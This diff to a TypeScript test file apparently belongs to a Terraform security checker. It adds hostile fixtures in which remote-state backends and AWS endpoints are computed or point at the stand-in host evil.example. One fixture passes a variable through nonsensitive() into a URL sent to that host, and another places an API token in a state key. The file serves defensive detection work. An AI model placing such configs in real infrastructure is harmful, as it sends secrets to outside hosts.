@@ -1,6 +1,19 @@
 import { terraform } from "./support";
 import { backend, bare, output, type TerraformCase } from "./terraform-cases";
 
+/** Remote states of which Terraform computes what says where they are; and the setting that it computes. */
+const COMPUTED_STATES: readonly (readonly [what: string, body: object, setting: string])[] = [
+  ["a config that is an expression", { backend: "http", config: '${{address="http://evil.example/?t=${nonsensitive(var.t)}"}}' }, "config"],
+  ["a config that a local gives", { backend: "kubernetes", config: "${local.c}" }, "config"],
+  ["a config that a directive gives", { backend: "http", config: "%{if true}x%{endif}" }, "config"],
+  ["a list of configs", { backend: "http", config: ["${local.c}"] }, "config"],
+  ["a host within another text", { backend: "s3", config: { endpoints: { s3: 'https://${"evil.example"}' } } }, "config"],
+  ["a key", { backend: "pg", config: { '${"conn_str"}': "host=evil.example" } }, "config"],
+  ["a key further down", { backend: "s3", config: { endpoints: { "%{if true}s3%{endif}": "evil.example" } } }, "config"],
+  ["what a request carries", { backend: "s3", config: { bucket: "b", key: "${var.api_token}" } }, "config"],
+  ["the backend", { backend: '${"http"}', config: { lock: true } }, "backend"],
+];
+
 /** Rules against Terraform that runs programs, or speaks with strangers. */
 export const HOSTILE_CASES: readonly TerraformCase[] = [
   [
@@ -136,6 +149,61 @@ export const HOSTILE_CASES: readonly TerraformCase[] = [
       "provider.kubernetes: provider.kubernetes speaks with evil.example",
       "provider.vault: provider.vault speaks with evil.example",
     ],
+  ],
+  ...COMPUTED_STATES.flatMap(([what, body, setting]): TerraformCase[] => {
+    const stack = terraform({ data: { terraform_remote_state: { x: body } } });
+    const address = "data.terraform_remote_state.x";
+    return [
+      [
+        "foreignHttp",
+        `a remote state, computed: ${what}`,
+        stack,
+        [`${address}: ${address} keeps or reads a state at a host that is known at plan time only`],
+      ],
+      [
+        "externalProgram",
+        `a remote state, computed: ${what}`,
+        stack,
+        [`${address}.${setting}: ${address} may run a program that ${setting} names`],
+      ],
+    ];
+  }),
+  [
+    "foreignHttp",
+    "services of AWS at hosts that are not known",
+    terraform({
+      provider: {
+        aws: [{ endpoints: [{ sts: "${local.h}" }] }, { alias: "b", dynamic: { endpoints: { content: { sts: "${local.h}" } } } }],
+      },
+    }),
+    Array.from({ length: 2 }, () => "provider.aws: provider.aws speaks with a host that is known at plan time only"),
+  ],
+  [
+    "foreignHttp",
+    "services at a host without a scheme, and by a key that is computed",
+    terraform({ provider: { aws: { endpoints: { sts: "evil.example" } }, acme: { x: { "${local.k}": "y" } } } }),
+    [
+      "provider.acme: provider.acme speaks with a host that is known at plan time only",
+      "provider.aws: provider.aws speaks with evil.example",
+    ],
+  ],
+  [
+    "foreignHttp",
+    "states of other stacks, as they are written for each backend",
+    terraform({
+      data: {
+        terraform_remote_state: {
+          cloud: { backend: "remote", config: { organization: "example", workspaces: { name: "cloud" } } },
+          local: { backend: "local", config: { path: "../../../terraform.other.tfstate" }, workspace: "${terraform.workspace}" },
+          r2: {
+            backend: "s3",
+            config: { bucket: "b", endpoints: { s3: "https://x.r2.cloudflarestorage.com" }, key: "r2.tfstate", use_path_style: true },
+            workspace: "${terraform.workspace}",
+          },
+        },
+      },
+    }),
+    [],
   ],
   ["foreignHttp", "R2", bare(backend({ s3: { endpoints: { s3: "https://x.r2.cloudflarestorage.com" } } })), []],
   ["foreignHttp", "HCP Terraform", bare({ terraform: { cloud: { hostname: "app.terraform.io", workspaces: { name: "https" } } } }), []],
